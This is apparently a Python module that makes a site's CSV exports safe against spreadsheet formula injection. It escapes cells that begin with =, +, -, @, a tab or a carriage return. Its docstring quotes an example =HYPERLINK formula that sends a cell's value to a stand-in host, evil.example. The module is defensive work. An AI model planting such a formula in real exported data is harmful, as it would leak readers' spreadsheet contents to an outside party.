"""CSV files people open in a spreadsheet. Every CSV this site writes goes through `csv_text`.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice:
a proposal titled =HYPERLINK("http://evil.example/?x="&A1,"Click") would run in the reader's
spreadsheet. Such text cells get a leading single quote (OWASP's rule), which spreadsheets show as text.
Numbers are written as numbers: a negative amount stays -5.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    out = io.StringIO()
    # RFC 4180's CRLF: the writer then quotes a cell holding either \r or \n, where with "\n" alone a
    # lone \r would go out unquoted and end the row early in a spreadsheet.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return out.getvalue()
